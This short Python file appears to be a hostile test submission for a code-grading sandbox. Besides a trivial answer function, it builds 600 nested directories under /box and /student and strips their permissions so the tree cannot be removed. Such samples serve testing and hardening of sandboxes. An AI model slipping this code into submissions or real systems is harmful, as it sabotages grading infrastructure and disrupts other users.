# A folder in a folder in a folder, closed to everybody.
import os

for folder in ("/box", "/student"):
    os.chdir(folder)
    for _ in range(600):
        os.mkdir("d")
        os.chdir("d")
    os.chmod(".", 0)
    os.chmod(f"{folder}/d", 0)


def answer(x):
    return 2 * x
